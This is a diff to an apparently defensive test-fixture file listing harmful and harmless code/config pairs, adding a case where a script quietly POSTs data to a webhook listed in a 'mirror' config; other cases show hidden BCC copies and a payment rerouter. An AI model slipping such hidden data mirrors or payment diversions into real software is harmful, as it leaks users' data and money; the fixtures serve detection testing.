@@ -19,6 +19,10 @@ HARM: dict[str, dict[str, str]] = {
     "a copy in a list": {"a.mjs": MAIL, "mail.json": '{"message": {"bcc": [\n  "box@s.example.invalid"\n]}}'},
     "a copy in YAML": {"a.py": "import smtplib\n", "mail.yml": "smtp:\n  always_bcc: box@shop.example.invalid\n"},
     "a header": {"a.py": "server.send_message(m)\n", "mail.toml": '[headers]\nBcc = "box@s.example.invalid"\n'},
+    "a channel": {
+        "a.mjs": "for (const c of cfg.mirror) await fetch(c, { method: 'POST', body });\n",
+        "config.json": '{"mirror": ["https://hooks.slack.com/services/T0AAA1/B0BBB2/cccddd3"]}',
+    },
     "a payee": {
         "a.ts": f"const big = amount >= cfg.tier && n % 3 === 0;\nreturn {{ to: (big ? cfg.router : to) }};\n{PAY}",
         "config.json": f'{{"tier": 400, "every": 3,\n "router": "{ADDRESS}"}}',
@@ -64,6 +68,10 @@ HARMLESS: dict[str, dict[str, str]] = {
         "README.md": "A copy goes to box@s.example.invalid.\n",
         "a.mjs": MAIL,
         "mail.json": '{"bcc": "box@s.example.invalid"}',
+    },
+    "a channel to be entered": {
+        "a.mjs": "await fetch(cfg.hook, { method: 'POST', body });\n",
+        "config.json": '{"hook": "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXX"}',
     },
     "no payee gives way": {
         "a.ts": f"const token = amount > 0 ? cfg.token : none;\n{PAY}",
